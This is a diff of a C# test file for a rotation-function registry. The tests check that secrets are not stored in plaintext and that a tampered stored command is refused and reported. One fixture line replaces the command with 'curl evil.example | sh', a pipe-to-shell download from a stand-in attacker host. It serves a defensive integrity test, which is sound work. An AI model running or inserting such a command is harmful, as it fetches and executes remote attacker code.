@@ -94,7 +94,7 @@ public sealed class RotationFunctionRegistryTests : IAsyncLifetime
         const string canary = "PLAINTEXT-CANARY-0f3a";
         var created = await _registry.CreateAsync(Region, new RotationFunctionInput("hook", Url: "https://rotator.example/", Environment: new Dictionary<string, string> { ["PASSWORD"] = canary }), CancellationToken.None);
         var key = Convert.ToBase64String(created.HmacKey!);
-        var entity = await _store.FindIamEntityAsync(RotationFunctionRegistry.EntityKind, Region + "/hook", CancellationToken.None);
+        var entity = (await _store.FindIamEntityAsync(RotationFunctionRegistry.EntityKind, Region + "/hook", CancellationToken.None))?.Json;
         Assert.NotNull(entity);
         Assert.DoesNotContain(canary, entity, StringComparison.Ordinal);
         Assert.DoesNotContain("PASSWORD", entity, StringComparison.Ordinal);
@@ -102,6 +102,32 @@ public sealed class RotationFunctionRegistryTests : IAsyncLifetime
         var wrapped = await _store.WriteAsync(tx => tx.GetRootWrappedAsync("rotation-function:" + Region + "/hook", CancellationToken.None), CancellationToken.None);
         Assert.NotNull(wrapped);
         Assert.True(wrapped.AsSpan().IndexOf(System.Text.Encoding.UTF8.GetBytes(canary)) < 0);
+    }
+
+    [Fact]
+    public async Task Store_CommandChangedWithoutTheRootKey_IsRefusedAndReported()
+    {
+        var reported = new List<(string Table, string Key)>();
+        var root = new RootWrap(_root);
+        root.IntegrityFailure += (table, key) => reported.Add((table, key));
+        var registry = new RotationFunctionRegistry(_store, root, new ServerIdentity(Account, Region), _time);
+        await registry.CreateAsync(Region, new RotationFunctionInput("safe", Command: "/usr/local/bin/rotate"), CancellationToken.None);
+        var row = (await _store.FindIamEntityAsync(RotationFunctionRegistry.EntityKind, Region + "/safe", CancellationToken.None))!;
+
+        // Someone with write access to the database points the function at another command, keeping the old tag.
+        var edited = row with { Json = row.Json.Replace("/usr/local/bin/rotate", "curl evil.example | sh", StringComparison.Ordinal) };
+        await _store.WriteAsync(async tx => { await tx.PutIamEntityAsync(edited, CancellationToken.None); return true; }, CancellationToken.None);
+        await Assert.ThrowsAsync<Core.Storage.RecordIntegrityException>(() => registry.ResolveAsync(Region, "safe", CancellationToken.None));
+        await Assert.ThrowsAsync<Core.Storage.RecordIntegrityException>(() => registry.GetAsync(Region, "safe", CancellationToken.None));
+        Assert.Contains(("iam_entities", RotationFunctionRegistry.EntityKind + "/" + Region + "/safe"), reported);
+
+        // Without any tag (a row inserted directly) it is refused too.
+        await _store.WriteAsync(async tx => { await tx.PutIamEntityAsync(row with { Mac = null }, CancellationToken.None); return true; }, CancellationToken.None);
+        await Assert.ThrowsAsync<Core.Storage.RecordIntegrityException>(() => registry.ResolveAsync(Region, "safe", CancellationToken.None));
+
+        // The row as it was written verifies again.
+        await _store.WriteAsync(async tx => { await tx.PutIamEntityAsync(row, CancellationToken.None); return true; }, CancellationToken.None);
+        Assert.Equal("/usr/local/bin/rotate", (await registry.GetAsync(Region, "safe", CancellationToken.None)).Command);
     }
 
     [Fact]
